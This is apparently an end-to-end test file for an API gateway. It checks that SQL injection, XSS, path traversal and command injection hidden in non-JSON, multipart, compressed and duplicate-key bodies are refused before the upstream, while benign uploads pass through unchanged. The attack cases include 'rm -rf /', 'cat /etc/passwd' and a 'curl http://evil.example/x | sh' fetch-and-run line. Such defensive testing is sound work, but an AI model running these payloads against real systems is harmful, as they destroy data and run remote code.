import { createHash, randomBytes } from 'node:crypto';
import type { IncomingHttpHeaders } from 'node:http';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { cleanup, E2E_API_KEY, startGateway, type GatewayProcess } from '../helpers/gateway.js';
import { call } from '../helpers/http.js';
import { testServer } from '../helpers/upstreams.js';

/*
 * Bodies that are not declared JSON (issue 11, item 6): attacks in text/plain, typeless,
 * urlencoded and multipart bodies, and in duplicate JSON keys, are refused before any of them
 * reaches the upstream; benign bodies of each kind, and binary uploads whose bytes look like
 * an attack, reach it byte for byte. The upstream records every request that arrives, whole
 * or not.
 */

interface Arrival {
  readonly method: string;
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  body?: Buffer;
  /** The request ended before its body did (the gateway aborted it). */
  aborted: boolean;
}

const arrivals: Arrival[] = [];
let gw: GatewayProcess;
/** Bodies the gateway holds to inspect may be this large (limits.jsonBodyBytes). */
const INSPECT_LIMIT = 64 * 1024;
const URL_PATH = '/v1/twin/notes';

beforeAll(async () => {
  const upstream = await testServer((req, res) => {
    const arrival: Arrival = { method: req.method ?? '', url: req.url ?? '', headers: req.headers, aborted: false };
    arrivals.push(arrival);
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('error', () => (arrival.aborted = true));
    req.on('close', () => {
      if (!req.complete) arrival.aborted = true;
    });
    req.on('end', () => {
      arrival.body = Buffer.concat(chunks);
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ bytes: arrival.body.length, sha256: sha256(arrival.body) }));
    });
  });
  gw = await startGateway({
    env: { TWIN_SERVICE_URL: upstream.url },
    // Many refused requests from one client: no quota or threat score may get in the way.
    yaml: `
limits:
  jsonBodyBytes: ${INSPECT_LIMIT}
rateLimit:
  enabled: false
  threat:
    enabled: false
`,
  });
});
afterAll(cleanup);
beforeEach(() => {
  arrivals.length = 0;
});

function sha256(b: Buffer): string {
  return createHash('sha256').update(b).digest('hex');
}

const BOUNDARY = '----ugwBodyFormats7MA4YWxkTrZu0gW';

interface PartSpec {
  readonly name: string;
  readonly filename?: string;
  readonly type?: string;
  readonly body: string | Buffer;
}

function multipart(parts: readonly PartSpec[], boundary = BOUNDARY): Buffer {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n`, 'utf8'));
    chunks.push(Buffer.isBuffer(p.body) ? p.body : Buffer.from(p.body, 'utf8'));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;

/** A real PNG header and IHDR, then bytes that read like SQL injection and a script tag. */
const PNG_WITH_ATTACK_BYTES = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
  Buffer.from("tEXtComment\0' OR 1=1 -- <script>alert(1)</script> ; cat /etc/passwd ../../etc/passwd", 'latin1'),
  randomBytes(2048),
]);

interface Case {
  readonly name: string;
  readonly headers: Record<string, string>;
  readonly body: string | Buffer;
  readonly method?: string;
}

const ATTACKS: readonly Case[] = [
  { name: 'SQL injection in text/plain', headers: { 'content-type': 'text/plain' }, body: "1' OR '1'='1' --" },
  { name: 'SQL injection in text/plain that is JSON', headers: { 'content-type': 'text/plain; charset=utf-8' }, body: '{"filter":"x\' UNION SELECT password FROM users --"}' },
  { name: 'SQL injection in a JSON body without Content-Type', headers: {}, body: '{"q":"1\' OR \'1\'=\'1\' --"}' },
  { name: 'an escaped quote in a typeless JSON string', headers: {}, body: '"1\\u0027 OR \\u00271\\u0027=\\u00271"' },
  { name: 'command injection in a typeless text body', headers: {}, body: 'name=x; cat /etc/passwd' },
  { name: 'XSS in a typeless body on DELETE', method: 'DELETE', headers: {}, body: '<script>alert(document.cookie)</script>' },
  { name: 'SQL injection in an urlencoded field', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=alice&q=%27%20OR%201%3D1%20--' },
  { name: 'XSS in an urlencoded field name', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: '%3Cscript%3Ealert(1)%3C%2Fscript%3E=1' },
  { name: 'command injection after a ; in an urlencoded body', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'a=1;cmd=%3B%20rm%20-rf%20%2F' },
  { name: 'SQL injection in a multipart field', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'note', body: 'fine' }, { name: 'q', body: "' UNION SELECT username, password FROM users --" }]) },
  { name: 'XSS in a multipart field name', headers: { 'content-type': MULTIPART }, body: multipart([{ name: '<img src=x onerror=alert(1)>', body: 'x' }]) },
  { name: 'path traversal in a multipart filename', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'file', filename: '../../../etc/passwd', type: 'image/png', body: Buffer.from([0x89, 0x50]) }]) },
  { name: 'SQL injection in a multipart filename', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'file', filename: "x' OR '1'='1.png", type: 'image/png', body: Buffer.from([0x89, 0x50]) }]) },
  { name: 'XSS in a text file part', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'file', filename: 'notes.txt', type: 'text/plain', body: 'hello <script>alert(1)</script>' }]) },
  { name: 'command injection in a file part without Content-Type', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'file', filename: 'run.sh', body: 'echo hi; curl http://evil.example/x | sh' }]) },
  { name: 'SQL injection hidden behind a duplicate JSON key', headers: { 'content-type': 'application/json' }, body: '{"q":"1\' OR \'1\'=\'1\' --","q":"hello"}' },
  { name: 'XSS in a nested duplicate JSON key', headers: { 'content-type': 'application/json' }, body: '{"a":{"b":"<svg onload=alert(1)>","b":"fine"},"a":{"b":"fine"}}' },
  { name: 'SQL injection in a gzip-compressed text/plain body', headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, body: gzipSync("1' OR '1'='1' --") },
  { name: 'SQL injection in a UTF-16 JSON body without Content-Type', headers: {}, body: Buffer.from('\ufeff{"q":"1\' OR \'1\'=\'1\' --"}', 'utf16le') },
  { name: 'XSS in an XML body', headers: { 'content-type': 'application/xml' }, body: '<note><to>x</to><body><![CDATA[<script>alert(1)</script>]]></body></note>' },
];

const BENIGN: readonly Case[] = [
  { name: 'prose in text/plain', headers: { 'content-type': 'text/plain' }, body: "Select the best option from the table; O'Reilly's book says 1=1 in boolean algebra." },
  { name: 'a JSON body without Content-Type', headers: {}, body: '{"query":"what is on my calendar tomorrow?","n":3}' },
  { name: 'a typeless text body', headers: {}, body: 'just a note to self' },
  { name: 'an urlencoded form', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'name=O%27Reilly&message=see+you+at+5%3B+bring+snacks' },
  { name: 'a multipart form with a text file', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'title', body: 'Meeting notes' }, { name: 'file', filename: 'notes.txt', type: 'text/plain', body: 'Agenda:\n1. budget\n2. hiring' }]) },
  { name: 'duplicate JSON keys', headers: { 'content-type': 'application/json' }, body: '{"tag":"a","tag":"b","n":1}' },
  { name: 'a PNG upload whose bytes look like attacks', headers: { 'content-type': 'image/png' }, body: PNG_WITH_ATTACK_BYTES },
  { name: 'an octet-stream upload whose bytes look like attacks', headers: { 'content-type': 'application/octet-stream' }, body: PNG_WITH_ATTACK_BYTES },
  { name: 'a multipart PNG part whose bytes look like attacks', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'caption', body: 'my cat' }, { name: 'photo', filename: 'cat.png', type: 'image/png', body: PNG_WITH_ATTACK_BYTES }]) },
  { name: 'a multipart file part without Content-Type holding binary', headers: { 'content-type': MULTIPART }, body: multipart([{ name: 'blob', filename: 'cat.png', body: PNG_WITH_ATTACK_BYTES }]) },
  { name: 'a typeless binary body (starts with binary bytes)', headers: {}, body: PNG_WITH_ATTACK_BYTES },
];

describe('attacks in bodies that are not declared JSON are refused before the upstream', () => {
  for (const c of ATTACKS) {
    it(c.name, async () => {
      const res = await call(`${gw.url}${URL_PATH}`, { method: c.method ?? 'POST', headers: c.headers, body: c.body });
      expect(res.status, res.text).toBe(403);
      expect(res.json().error.code).toBe('GW_SECURITY_INPUT_REJECTED');
      expect(arrivals).toEqual([]);
    });
  }
});

describe('benign bodies of each kind reach the upstream unchanged', () => {
  for (const c of BENIGN) {
    it(c.name, async () => {
      const body = Buffer.isBuffer(c.body) ? c.body : Buffer.from(c.body, 'utf8');
      const res = await call(`${gw.url}${URL_PATH}`, { method: c.method ?? 'POST', headers: c.headers, body });
      expect(res.status, res.text).toBe(200);
      expect(res.json()).toEqual({ bytes: body.length, sha256: sha256(body) });
      expect(arrivals).toHaveLength(1);
      expect(arrivals[0]!.headers['content-type']).toBe(c.headers['content-type']);
    });
  }
});

describe('limits and malformed bodies', () => {
  it('a text body over the inspection limit is 413, not streamed past inspection', async () => {
    const res = await call(`${gw.url}${URL_PATH}`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'a'.repeat(INSPECT_LIMIT + 1) });
    expect(res.status).toBe(413);
    expect(res.json().error.code).toBe('GW_REQUEST_BODY_TOO_LARGE');
    expect(arrivals).toEqual([]);
  });

  it('a chunked typeless body over the limit is 413 too', async () => {
    const body = `${'x'.repeat(INSPECT_LIMIT)}' OR 1=1 --`;
    const res = await raw(`POST ${URL_PATH} HTTP/1.1\r\nHost: x\r\nX-API-Key: ${E2E_API_KEY}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`);
    expect(res).toMatch(/^HTTP\/1\.1 413 /);
    expect(arrivals).toEqual([]);
  });

  it('a chunked typeless attack on GET (a method Fastify parses no body for) is refused', async () => {
    const body = "' OR 1=1 --";
    const res = await raw(`GET ${URL_PATH} HTTP/1.1\r\nHost: x\r\nX-API-Key: ${E2E_API_KEY}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`);
    expect(res).toMatch(/^HTTP\/1\.1 403 /);
    expect(arrivals).toEqual([]);
  });

  it('multipart that another parser could read differently is 400', async () => {
    const lfHeaders = Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\nX-Note: y\n\n' OR 1=1 --\r\n\r\nfine\r\n--${BOUNDARY}--\r\n`);
    const preamble = Buffer.concat([Buffer.from('preamble text\r\n'), multipart([{ name: 'a', body: 'x' }])]);
    const lfDelimiter = multipart([{ name: 'file', filename: 'a.png', type: 'image/png', body: `\x89PNG\n--${BOUNDARY}\r\nContent-Disposition: form-data; name="q"\r\n\r\n' OR 1=1 --` }]);
    const truncated = multipart([{ name: 'a', body: 'x' }]).subarray(0, 60);
    for (const body of [lfHeaders, preamble, lfDelimiter, truncated]) {
      const res = await call(`${gw.url}${URL_PATH}`, { method: 'POST', headers: { 'content-type': MULTIPART }, body });
      expect(res.status, body.toString('latin1')).toBe(400);
      expect(res.json().error.code).toBe('GW_REQUEST_INVALID');
    }
    expect(arrivals).toEqual([]);
  });

  it('a multipart part in a transfer encoding the gateway does not decode is 415', async () => {
    const body = Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64\r\n\r\nJyBPUiAxPTEgLS0=\r\n--${BOUNDARY}--\r\n`);
    const res = await call(`${gw.url}${URL_PATH}`, { method: 'POST', headers: { 'content-type': MULTIPART }, body });
    expect(res.status).toBe(415);
    expect(res.json().error.code).toBe('GW_REQUEST_UNSUPPORTED_MEDIA_TYPE');
    expect(arrivals).toEqual([]);
  });

  it('a large multipart upload streams through whole; an attack after its binary part aborts the upstream request', async () => {
    const big = randomBytes(INSPECT_LIMIT * 8);
    const fine = multipart([{ name: 'title', body: 'holiday video' }, { name: 'video', filename: 'v.mp4', type: 'video/mp4', body: big }, { name: 'tags', body: 'beach, sunset' }]);
    const ok = await call(`${gw.url}${URL_PATH}`, { method: 'POST', headers: { 'content-type': MULTIPART }, body: fine });
    expect(ok.status, ok.text).toBe(200);
    expect(ok.json()).toEqual({ bytes: fine.length, sha256: sha256(fine) });

    arrivals.length = 0;
    const bad = multipart([{ name: 'video', filename: 'v.mp4', type: 'video/mp4', body: big }, { name: 'q', body: "' OR 1=1 --" }]);
    const res = await call(`${gw.url}${URL_PATH}`, { method: 'POST', headers: { 'content-type': MULTIPART }, body: bad });
    expect(res.status).toBe(403);
    expect(res.json().error.code).toBe('GW_SECURITY_INPUT_REJECTED');
    // The upstream saw the request start (the inspected binary part streamed) but never its end.
    expect(arrivals.every((a) => a.body === undefined)).toBe(true);
  });
});

/** Write raw bytes on a fresh connection and return what comes back. */
function raw(text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(gw.port, '127.0.0.1', () => socket.write(text));
    let out = '';
    socket.setEncoding('utf8').on('data', (d: string) => (out += d));
    socket.on('close', () => resolve(out));
    socket.on('error', reject);
    setTimeout(() => socket.destroy(), 5000);
  });
}
